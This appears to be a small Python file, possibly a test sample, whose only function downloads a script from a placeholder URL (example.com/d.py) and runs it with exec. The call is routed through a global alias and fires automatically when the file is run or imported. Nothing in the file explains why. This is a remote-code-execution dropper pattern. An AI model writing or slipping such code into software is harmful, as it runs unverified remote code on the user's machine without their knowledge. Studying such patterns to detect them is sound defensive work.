import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


def setup():
    global later
    later = _go


setup()
later()
